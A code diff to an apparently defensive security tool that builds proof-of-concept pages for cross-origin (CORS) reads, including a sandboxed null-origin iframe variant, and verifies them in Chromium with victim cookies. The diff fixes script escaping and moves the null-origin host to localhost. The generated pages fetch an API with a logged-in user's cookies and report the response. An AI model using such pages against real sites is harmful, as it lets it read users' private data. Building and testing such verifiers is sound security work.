@@ -48,7 +48,7 @@ export function attackPage(a: Attack): string {
       .catch((e) => report({ readable: false, error: String(e) }));`;
   const title = `crossread proof: ${a.label}`;
   const explain = `Serve this page from ${a.origin === 'null' ? 'any origin (it reads from a sandboxed iframe, whose Origin is null)' : a.origin} and open it in a browser where you are logged in to the API: it reads ${a.url} ${a.credentials ? 'with your cookies' : 'without credentials'} and shows what it got.`;
-  const inner = `<script>function report(x){parent.postMessage(x,'*')}${fetchCode}<\\/script>`;
+  const inner = `<script>function report(x){parent.postMessage(x,'*')}${fetchCode}</script>`;
   return `<!doctype html>
 <html><head><meta charset="utf-8"><title>${escapeHtml(title)}</title></head>
 <body>
@@ -65,7 +65,7 @@ export function attackPage(a: Attack): string {
       ? `window.addEventListener('message', (e) => report(e.data));
   const f = document.createElement('iframe');
   f.setAttribute('sandbox', 'allow-scripts');
-  f.srcdoc = ${JSON.stringify(inner)};
+  f.srcdoc = ${JSON.stringify(inner).replace(/<\//g, '<\\/')};
   document.body.append(f);`
       : fetchCode
   }
@@ -78,8 +78,12 @@ function escapeHtml(s: string): string {
   return s.replace(/[&<>"]/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;' })[c]!);
 }
 
-/** The origin the page is served at: a null-origin attack runs inside a page of an unrelated https origin. */
-const servedAt = (origin: string): string => (origin === 'null' ? 'https://sandbox-host.crossread.invalid' : origin);
+/**
+ * The origin the page is served at. A null-origin attack runs in a sandboxed iframe inside a page on
+ * `localhost`: an opaque origin cannot be granted local-network access, so the outer page sits in the
+ * loopback address space itself (a different site from 127.0.0.1, so cookies still go cross-site).
+ */
+const servedAt = (origin: string): string => (origin === 'null' ? 'http://localhost:9' : origin);
 
 export async function openVerifier(opts: { cookies: VictimCookie[]; pocDir?: string; executablePath?: string; timeoutMs?: number }): Promise<Verifier | { error: string }> {
   const executablePath = opts.executablePath ?? CHROMIUM_PATHS.find((p) => existsSync(p));
